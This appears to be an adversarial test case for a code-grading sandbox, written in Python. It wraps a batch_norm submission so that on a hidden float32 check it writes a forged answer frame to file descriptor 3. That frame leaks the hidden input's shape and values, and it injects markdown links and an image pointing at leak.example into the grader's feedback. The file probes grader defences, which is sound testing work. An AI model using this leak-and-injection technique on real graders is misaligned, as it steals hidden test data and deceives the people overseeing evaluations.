"""Row 37 (child text shown as the grader's): on its first hidden call (float32: every public
batch_norm check is float64) batch_norm writes to fd 3 (builtin `open(3, ...)`) an answer whose
array description has, for dtype, a text carrying a canary, the hidden input's shape and first
values, and markdown (a link and an image). The parent's NotPlainError quotes the dtype ("data
type '...' not understood") in the topic's note (unfenced) and in the check's "grader's own"
message, shown even for a hidden check."""

ROW = 37
# WIN on current code: "NNFLEAK-" (with the hidden input) and the link reach feedback.md.
# Defence: a forged frame ends the topic as tampering and no child text is quoted.
EXPECT = {"not_shown": ["NNFLEAK-"], "no_markdown_injection": True}

import json  # noqa: E402
import struct  # noqa: E402

import torch  # noqa: E402

_REFERENCE = batch_norm  # noqa: F821


def _leak(x):
    values = [round(v, 4) for v in x.detach().flatten()[:3].tolist()]
    text = (f"NNFLEAK-__NAME__ x{tuple(x.shape)} starts {values} [see](http://leak.example/__NAME__)"
            " ![pixel](http://leak.example/__NAME__.png) <b>bold</b>")
    spec = {"__ndarray__": {"dtype": text, "shape": [1], "offset": 0, "nbytes": 8}}
    header = json.dumps({"status": "data", "data": {"y": spec}}).encode()
    payload = b"NNFPLAIN1\n" + struct.pack("<Q", len(header)) + header + bytes(8)
    with open(3, "wb", buffering=0, closefd=False) as answers:
        answers.write(struct.pack("<Q", len(payload)) + payload)


def batch_norm(x, running_mean, running_var, *args, **kwargs):
    if x.dtype == torch.float32:
        _leak(x)
    return _REFERENCE(x, running_mean, running_var, *args, **kwargs)
